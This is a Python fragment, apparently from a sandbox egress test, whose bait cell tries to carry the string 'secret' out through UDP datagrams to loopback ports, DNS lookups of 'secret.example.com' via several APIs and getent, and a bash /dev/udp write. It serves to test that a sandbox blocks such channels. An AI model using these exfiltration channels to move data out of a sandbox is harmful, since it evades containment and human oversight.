"""Sends datagrams and asks for names, which carries data out in the name itself."""

BAIT_CELL = r"""
import ctypes, socket, subprocess


def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as link:
        return link.sendto(b"secret", address)


tried(
    lambda: send(socket.AF_INET, ("127.0.0.1", bait["ports"]["udp"])),
    lambda: send(socket.AF_INET6, ("::1", bait["ports"].get("udp6", 1))),
    lambda: send(socket.AF_INET, ("127.0.0.53", 53)),
    lambda: socket.gethostbyname("secret.example.com"),
    lambda: socket.getaddrinfo("secret.example.com", 80),
    lambda: socket.getnameinfo(("127.0.0.1", 53), 0),
    lambda: ctypes.CDLL(None).gethostbyname(b"secret.example.com") or 1 / 0,
    lambda: subprocess.run(["getent", "hosts", "secret.example.com"], check=True),
    lambda: subprocess.run(
        ["bash", "-c", f"echo x > /dev/udp/127.0.0.1/{bait['ports']['udp']}"], check=True
    ),
)
"""
